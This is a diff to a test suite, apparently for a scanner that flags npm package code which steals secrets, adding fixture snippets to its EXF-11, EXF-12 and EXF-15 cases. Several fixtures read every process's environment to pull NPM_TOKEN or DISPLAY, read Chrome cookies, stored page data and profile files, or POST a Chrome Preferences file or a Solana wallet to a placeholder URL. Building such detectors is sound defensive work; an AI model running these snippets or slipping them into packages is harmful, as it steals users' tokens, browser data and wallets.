@@ -152,6 +152,9 @@ describeVerdicts("EXF-11", {
       for (const pid of fs.readdirSync("/proc")) {
         try { fs.readFileSync("/proc/" + pid + "/environ"); } catch {}
       }`,
+    "one variable of every process, that opens something": `
+      exports.start = () => require("child_process").execSync("ps -eo pid= | xargs -I{} cat /proc/{}/environ | tr '\\\\0' '\\\\n' | grep -m1 '^NPM_TOKEN='");
+      for (const pid of require("fs").readdirSync("/proc")) require("fs").readFileSync("/proc/" + pid + "/environ");`,
     "memory, at install": atInstall(
       `const fs = require("fs");
        const maps = fs.readFileSync("/proc/1234/maps", "utf8");
@@ -162,6 +165,13 @@ describeVerdicts("EXF-11", {
     "a debugger": asCommand(
       `require("fs").readFileSync("/proc/" + process.argv[2] + "/maps", "utf8");`,
     ),
+    "the variables of a process that the caller names": `
+      exports.environment = async (pid) => Object.fromEntries(
+        (await require("fs/promises").readFile("/proc/" + pid + "/environ", "utf8")).split("\\0").map((row) => row.split("=", 2)));`,
+    "the screen that somebody sits at": `
+      exports.find = () => {
+        process.env.DISPLAY = require("child_process").execSync("ps -u $(id -u) -o pid= | xargs -I{} cat /proc/{}/environ | tr '\\\\0' '\\\\n' | grep -m1 '^DISPLAY=' | cut -d= -f2").toString().trim();
+      };`,
     "the load of the machine": `exports.load = () => require("fs").readFileSync("/proc/loadavg", "utf8");`,
     "the limits of a container": `module.exports = () => require("fs").readFileSync("/proc/self/cgroup", "utf8");`,
   },
@@ -175,6 +185,9 @@ describeVerdicts("EXF-12", {
     "a wallet that is sent": `
       const fs = require("fs"), os = require("os");
       exports.go = () => fetch("${url}", { method: "POST", body: fs.readFileSync(os.homedir() + "/.config/solana/id.json") });`,
+    "the settings of a profile that are sent": `
+      const fs = require("fs"), os = require("os");
+      exports.go = () => fetch("${url}", { method: "POST", body: fs.readFileSync(os.homedir() + "/.config/google-chrome/Default/Preferences") });`,
     "wallet extensions": atInstall(
       `const fs = require("fs"), os = require("os");
        const dir = os.homedir() + "/AppData/Local/Google/Chrome/User Data/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn";
@@ -186,6 +199,9 @@ describeVerdicts("EXF-12", {
       const fs = require("fs"), os = require("os"), dir = os.homedir() + "/.config/google-chrome/";
       exports.key = () => JSON.parse(fs.readFileSync(dir + "Local State", "utf8")).os_crypt.encrypted_key;
       exports.cookies = () => fs.readFileSync(dir + "Default/Cookies");`,
+    "the settings of a profile and what is stored for its pages": `
+      const fs = require("fs"), os = require("os"), dir = os.homedir() + "/.config/google-chrome/Default/";
+      exports.all = () => [fs.readFileSync(dir + "Preferences"), fs.readFileSync(dir + "Web Data")];`,
     "a library for cookies": `
       const fs = require("fs"), os = require("os");
       exports.cookies = () => fs.readFileSync(os.homedir() + "/.config/google-chrome/Default/Cookies");`,
@@ -197,6 +213,10 @@ describeVerdicts("EXF-12", {
     "which profile was used last": `
       const fs = require("fs"), os = require("os");
       exports.last = () => JSON.parse(fs.readFileSync(os.homedir() + "/.config/google-chrome/Local State", "utf8")).profile.last_used;`,
+    "in which profile an extension is": `
+      const fs = require("fs"), os = require("os"), dir = os.homedir() + "/.config/google-chrome/";
+      const read = (file) => JSON.parse(fs.readFileSync(dir + file, "utf8"));
+      exports.find = (id) => read("Default/Secure Preferences").extensions.settings[id] ?? read(read("Local State").profile.last_used + "/Preferences");`,
     "a test for a browser": `exports.has = () => require("fs").existsSync("/usr/bin/google-chrome");`,
     "a folder of the caller": `exports.read = (dir) => require("fs").readFileSync(dir + "/Cookies");`,
     "a command that starts a browser": asCommand(
@@ -317,6 +337,11 @@ describeVerdicts("EXF-15", {
       fetch(u + "?" + new URLSearchParams({ id: process.env.AWS_SECRET_ACCESS_KEY }));`,
   },
   passes: {
+    "a key in a header to an address that nobody can tell": `
+      exports.get = async (path) => fetch((await import("./own-base.js")).base() + path, { headers: { "x-key": process.env.OTHER_TOKEN } });`,
+    "settings that begin alike, in a header": asCommand(`
+      const ours = Object.entries(process.env).filter(([key]) => key.startsWith("SAMPLE_"));
+      fetch("https://api.sample.example/", { headers: { "x-settings": JSON.stringify(ours) } });`),
     "an id made at random": `fetch("${url}", { headers: { "x-request-id": require("crypto").randomUUID() } });`,
     "a token for its own service": `exports.get = (p) => fetch("https://api.stripe.com/v1" + p, { headers: { authorization: "Bearer " + process.env.STRIPE_SECRET_KEY } });`,
     "a header of the caller": `exports.get = (key) => fetch("${url}", { headers: { "x-api-key": key } });`,
